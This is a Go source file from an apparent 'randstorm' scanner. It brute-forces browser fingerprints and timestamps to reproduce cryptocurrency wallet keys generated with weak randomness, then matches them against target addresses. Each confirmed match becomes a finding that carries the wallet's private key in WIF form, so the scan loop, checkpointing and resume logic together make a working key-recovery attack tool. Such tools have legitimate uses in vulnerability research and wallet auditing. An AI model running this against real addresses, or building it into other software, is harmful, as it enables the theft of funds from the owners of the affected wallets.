package randstorm

import (
	"context"
	"errors"
	"fmt"
	"time"

	"github.com/sirupsen/logrus"
)

// Confidence grades a finding by how well-attested its generation scenario
// is.
type Confidence int

const (
	ConfidenceLow Confidence = iota
	ConfidenceMedium
	ConfidenceHigh
)

func (c Confidence) String() string {
	switch c {
	case ConfidenceHigh:
		return "high"
	case ConfidenceMedium:
		return "medium"
	default:
		return "low"
	}
}

// MarshalJSON renders confidence as its name.
func (c Confidence) MarshalJSON() ([]byte, error) {
	return []byte(`"` + c.String() + `"`), nil
}

// VulnerabilityFinding is one confirmed target match: a wallet whose private
// key is reproducible from the recorded environment and timestamp.
type VulnerabilityFinding struct {
	Address     string     `json:"address"`
	TimestampMS uint64     `json:"timestamp_ms"`
	Engine      string     `json:"engine"`
	Path        string     `json:"path"`
	Confidence  Confidence `json:"confidence"`
	ConfigIdx   int        `json:"config_idx"`
	UserAgent   string     `json:"user_agent"`
	Platform    string     `json:"platform"`
	WIF         string     `json:"wif,omitempty"`
}

// ScanReport summarizes a completed or interrupted scan.
type ScanReport struct {
	Findings  []VulnerabilityFinding
	Processed uint64
	Total     uint64
	Elapsed   time.Duration

	// Backend names the implementation that did the work; ActiveBackend is
	// the resolution state it satisfied, which may differ from the configured
	// policy after fallback.
	Backend       string
	ActiveBackend BackendKind

	Resumed bool

	// Completed is false when the scan stopped before exhausting the stream,
	// whether by cancellation or a candidate cap.
	Completed bool
}

// Scanner is the minimal scanning contract: identify yourself, scan targets,
// report findings.
type Scanner interface {
	Name() string
	Scan(ctx context.Context, targets *TargetSet, progress chan<- ScanProgress) ([]VulnerabilityFinding, error)
}

// ScanJob drives one scan of one engine over one configuration. Zero-valued
// optional fields (Phase, DB, Log) pick sensible defaults at Run time. A job
// is single-use: construct, Run or Resume once, inspect the report.
type ScanJob struct {
	Config ScanConfig
	Engine Engine

	// Phase selects the browser-config priority tier; zero means all configs.
	Phase Phase

	// DB supplies browser configuration priors; nil means the embedded set.
	DB *FingerprintDB

	// Log receives progress and finding lines; nil means a default logger.
	Log *logrus.Logger

	// backend, when pre-set, bypasses resolution. Used by tests.
	backend BatchBackend
}

// NewScanJob validates the configuration and returns a ready job.
func NewScanJob(cfg ScanConfig, engine Engine) (*ScanJob, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	return &ScanJob{Config: cfg, Engine: engine}, nil
}

// Name implements Scanner.
func (j *ScanJob) Name() string {
	return fmt.Sprintf("randstorm/%s/%s", j.Engine, j.Config.Backend)
}

// Scan implements Scanner, running the job from the beginning.
func (j *ScanJob) Scan(ctx context.Context, targets *TargetSet, progress chan<- ScanProgress) ([]VulnerabilityFinding, error) {
	report, err := j.Run(ctx, targets, progress)
	if err != nil {
		return nil, err
	}
	return report.Findings, nil
}

// Run executes the scan from the start of the candidate stream.
func (j *ScanJob) Run(ctx context.Context, targets *TargetSet, progress chan<- ScanProgress) (*ScanReport, error) {
	return j.run(ctx, targets, progress, nil)
}

// Resume executes the scan from a previously saved checkpoint. A missing or
// corrupt checkpoint, or one written under a different scan mode, is an
// error: an explicit resume never silently restarts from zero.
func (j *ScanJob) Resume(ctx context.Context, targets *TargetSet, progress chan<- ScanProgress) (*ScanReport, error) {
	if j.Config.CheckpointPath == "" {
		return nil, &CheckpointError{Op: "resume", Err: errors.New("no checkpoint path configured")}
	}
	ckpt, err := LoadCheckpoint(j.Config.CheckpointPath)
	if err != nil {
		return nil, err
	}
	if ckpt.ScanMode != j.Config.ScanMode.String() {
		return nil, &CheckpointError{
			Path: j.Config.CheckpointPath,
			Op:   "resume",
			Err:  fmt.Errorf("checkpoint mode %q does not match configured mode %q", ckpt.ScanMode, j.Config.ScanMode),
		}
	}
	return j.run(ctx, targets, progress, &ckpt)
}

func (j *ScanJob) logger() *logrus.Logger {
	if j.Log != nil {
		return j.Log
	}
	return defaultLogger()
}

func (j *ScanJob) phaseOrDefault() Phase {
	if j.Phase == 0 {
		return PhaseThree
	}
	return j.Phase
}

func (j *ScanJob) db() *FingerprintDB {
	if j.DB != nil {
		return j.DB
	}
	return DefaultFingerprintDB()
}

func (j *ScanJob) run(ctx context.Context, targets *TargetSet, progress chan<- ScanProgress, resume *ScanCheckpoint) (*ScanReport, error) {
	log := j.logger()

	backend := j.backend
	if backend == nil {
		b, err := ResolveBackend(&j.Config, j.Engine, log)
		if err != nil {
			return nil, err
		}
		backend = b
		defer backend.Close()
	}

	configs := j.db().ConfigsForPhase(j.phaseOrDefault())
	if len(configs) == 0 {
		return nil, &ConfigError{Field: "phase", Reason: "no browser configurations selected"}
	}
	stream := NewStreamingScan(configs, &j.Config)

	var scannedOffset uint64
	if resume != nil {
		if err := stream.Seek(resume.ConfigIdx, resume.TimestampMS); err != nil {
			return nil, &CheckpointError{Path: j.Config.CheckpointPath, Op: "resume", Err: err}
		}
		scannedOffset = resume.FingerprintsScanned
		log.WithFields(logrus.Fields{
			"config_idx":   resume.ConfigIdx,
			"timestamp_ms": resume.TimestampMS,
			"scanned":      resume.FingerprintsScanned,
		}).Info("resuming from checkpoint")
	}

	total := stream.Total()
	remaining := total
	if scannedOffset < total {
		remaining = total - scannedOffset
	}
	tracker := NewProgressTracker(remaining)
	rangeStart, rangeEnd := j.Config.candidateRange()

	mgr := NewCheckpointManager(j.Config.CheckpointPath, j.Config.CheckpointEveryBatches, 0)
	batchSize := j.Config.effectiveBatchSize()
	maxCandidates := j.Config.MaxFingerprints

	logEvery := time.Duration(j.Config.ProgressIntervalSecs) * time.Second
	if logEvery == 0 {
		logEvery = 5 * time.Second
	}

	log.WithFields(logrus.Fields{
		"engine":   j.Engine.String(),
		"backend":  backend.Name(),
		"mode":     j.Config.ScanMode.String(),
		"configs":  len(configs),
		"targets":  targets.Len(),
		"total":    total,
		"coverage": j.Config.PathCoverage.String(),
	}).Info("scan starting")

	start := time.Now()
	lastLog := start

	var findings []VulnerabilityFinding
	canceled := false
	exhausted := false
	abandoned := false
	var abandonedCfg int
	var abandonedTS uint64
	batch := make([]Candidate, 0, batchSize)

	for {
		if ctx.Err() != nil {
			canceled = true
			break
		}

		startCfg, startTS, _ := stream.Position()

		batch = batch[:0]
		for len(batch) < batchSize {
			if maxCandidates > 0 && scannedOffset+tracker.Processed()+uint64(len(batch)) >= maxCandidates {
				break
			}
			c, ok := stream.Next()
			if !ok {
				break
			}
			batch = append(batch, c)
		}
		if len(batch) == 0 {
			_, _, done := stream.Position()
			exhausted = done
			break
		}

		// Position now points at the first candidate after this batch; that
		// is what a checkpoint taken for this batch must record.
		nextCfg, nextTS, done := stream.Position()

		results, err := backend.DeriveBatch(ctx, batch)
		if err != nil {
			if ctx.Err() != nil {
				// The stream already advanced past this batch, but none of it
				// was processed. The resume point is the batch's first
				// candidate, not the stream position.
				canceled = true
				abandoned = true
				abandonedCfg, abandonedTS = startCfg, startTS
				break
			}
			return nil, err
		}

		var matches uint64
		for i := range results {
			for _, d := range results[i] {
				addr, ok := targets.Match(d.Hash160)
				if !ok {
					continue
				}
				f, err := j.confirmFinding(backend, &batch[i], d, addr)
				if err != nil {
					return nil, err
				}
				matches++
				findings = append(findings, f)
				log.WithFields(logrus.Fields{
					"address":      f.Address,
					"timestamp_ms": f.TimestampMS,
					"path":         f.Path,
					"confidence":   f.Confidence.String(),
				}).Warn("vulnerable wallet match")
			}
		}
		tracker.Update(uint64(len(batch)), matches)

		if progress != nil {
			p := tracker.Snapshot(rangeStart, rangeEnd)
			p.Current += scannedOffset
			select {
			case progress <- p:
			default:
			}
		}
		if time.Since(lastLog) >= logEvery {
			tracker.Log(log)
			lastLog = time.Now()
		}

		if done {
			exhausted = true
			break
		}
		ck := NewScanCheckpoint(nextCfg, nextTS, scannedOffset+tracker.Processed(), len(findings), j.Config.ScanMode)
		if err := mgr.CommitBatch(ck); err != nil {
			return nil, err
		}
		if maxCandidates > 0 && scannedOffset+tracker.Processed() >= maxCandidates {
			break
		}
	}

	report := &ScanReport{
		Findings:      findings,
		Processed:     scannedOffset + tracker.Processed(),
		Total:         total,
		Elapsed:       time.Since(start),
		Backend:       backend.Name(),
		ActiveBackend: backend.Kind(),
		Resumed:       resume != nil,
		Completed:     exhausted,
	}

	// Persist the stopping point so an interrupted or capped run can resume.
	if !exhausted {
		ckCfg, ckTS, done := stream.Position()
		if abandoned {
			ckCfg, ckTS, done = abandonedCfg, abandonedTS, false
		}
		if !done {
			ck := NewScanCheckpoint(ckCfg, ckTS, report.Processed, len(findings), j.Config.ScanMode)
			if err := mgr.Final(ck); err != nil {
				return report, err
			}
		}
	}

	log.WithFields(logrus.Fields{
		"processed": report.Processed,
		"findings":  len(findings),
		"elapsed":   report.Elapsed.Round(time.Millisecond).String(),
		"completed": report.Completed,
		"canceled":  canceled,
	}).Info("scan finished")

	return report, nil
}

// confirmFinding re-derives a backend match on the CPU golden reference
// before it is reported. A GPU hit the reference cannot reproduce is a
// parity violation, fatal to the scan.
func (j *ScanJob) confirmFinding(backend BatchBackend, c *Candidate, d DerivedCandidate, addr string) (VulnerabilityFinding, error) {
	ref := newCPUBackend(&j.Config, j.Engine)
	key := ref.candidateKey(c)

	confirmed := false
	for _, rd := range DeriveCandidates(key, j.Config.PathCoverage) {
		if rd.Path == d.Path && rd.Hash160 == d.Hash160 {
			confirmed = true
			break
		}
	}
	if !confirmed {
		return VulnerabilityFinding{}, &ParityViolation{
			Backend:   backend.Name(),
			Engine:    j.Engine,
			SeedIndex: -1,
			Got:       d.Hash160[:],
		}
	}

	wif, err := ExportWIF(key, d.Path != PathDirectUncompressed)
	if err != nil {
		return VulnerabilityFinding{}, err
	}

	return VulnerabilityFinding{
		Address:     addr,
		TimestampMS: c.Fingerprint.TimestampMS,
		Engine:      j.Engine.String(),
		Path:        d.Path,
		Confidence:  j.confidence(c),
		ConfigIdx:   c.ConfigIdx,
		UserAgent:   c.Fingerprint.UserAgent,
		Platform:    c.Fingerprint.Platform,
		WIF:         wif,
	}, nil
}

// confidence grades a finding by the prior rank of its browser config and by
// seeding model. Fingerprint-hash seeding is a forensic approximation, so
// its findings never grade above low.
func (j *ScanJob) confidence(c *Candidate) Confidence {
	if j.Config.Seeding == SeedFingerprint {
		return ConfidenceLow
	}
	switch {
	case c.ConfigIdx < 100:
		return ConfidenceHigh
	case c.ConfigIdx < 500:
		return ConfidenceMedium
	default:
		return ConfidenceLow
	}
}
